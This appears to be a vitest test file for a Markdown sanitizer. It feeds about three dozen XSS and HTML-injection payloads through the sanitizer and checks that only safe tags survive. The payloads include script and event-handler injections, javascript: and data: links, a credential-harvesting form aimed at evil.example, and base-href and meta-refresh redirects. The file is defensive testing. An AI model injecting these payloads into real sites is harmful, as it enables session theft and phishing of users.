import { describe, expect, test } from 'vitest';
import { renderMarkdown } from './render-markdown.ts';

/** Attempts to run a script, load a resource, or imitate a page. */
const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example/x)',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '<https://a.example/?"onclick=alert(1)>',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<form action=//evil.example><input name=password></form>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<object data=//evil.example></object>',
  '<details open ontoggle=alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '<!--><script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</p><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<script>alert(1)</script>',
];

/** The tags of HTML, with their attributes. */
function tagsOf(html: string): readonly string[] {
  return html.match(/<[^>]*>/g) ?? [];
}

describe('Markdown of untrusted authors', () => {
  test.each(ATTACKS)('contains nothing but harmless tags: %s', (attack) => {
    const { html, text } = renderMarkdown(`Before ${attack}\n\n${attack}`);
    for (const tag of tagsOf(html))
      expect(tag).toMatch(
        /^<\/?(p|br|strong|em|s|code|pre|blockquote|ul|ol|li|h[3-6]|hr|table|thead|tbody|tr|th|td|a)( \/)?>$|^<a href="(https?:\/\/|mailto:)[^"<>]*" rel="nofollow noopener noreferrer">$|^<a rel="nofollow noopener noreferrer">$/,
      );
    expect(text).not.toMatch(/^\s*$/);
  });

  test('keeps what people write in updates', () => {
    const { html, text } = renderMarkdown(
      '# Cause\n\nA **certificate** expired at `proxy-1`.\n\n- one\n- two\n\n[Details](https://example.com/a?b=1&c=2)',
    );
    expect(html).toContain('<h3>Cause</h3>');
    expect(html).toContain('<strong>certificate</strong>');
    expect(html).toContain(
      '<a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener noreferrer">Details</a>',
    );
    expect(text).toBe(
      'Cause\n\nA certificate expired at proxy-1.\n\n- one\n- two\n\nDetails (https://example.com/a?b=1&c=2)',
    );
  });

  test.each([
    ['many columns', `${'a|'.repeat(200)}\n${'-|'.repeat(200)}\n${'b\n'.repeat(100)}`],
    ['many rows', `a|b|c\n-|-|-\n${'d\n'.repeat(5_000)}`],
    ['many addresses', '**b** a@b.co '.repeat(600)],
    ['many entities', '**b** &amp; '.repeat(1_100)],
  ])('is shown without tables, entities and addresses beyond a limit: %s', (_name, markdown) => {
    const { html } = renderMarkdown(markdown);
    expect(html).not.toMatch(/<table|<a /);
    expect(html.includes('&amp;amp;')).toBe(markdown.includes('&amp;'));
    expect(html.includes('<strong>b</strong>')).toBe(markdown.includes('**b**'));
    expect(renderMarkdown('a|b\n-|-\nc|d\n\nhttps://e.example &copy;').html).toMatch(/<table.*<a .*©/s);
  });

  test('is fast for nested lists and quotes', () => {
    const startedMs = performance.now();
    renderMarkdown(`${'> '.repeat(5_000)}x\n${'['.repeat(5_000)}`);
    expect(performance.now() - startedMs).toBeLessThan(2_000);
  });
});
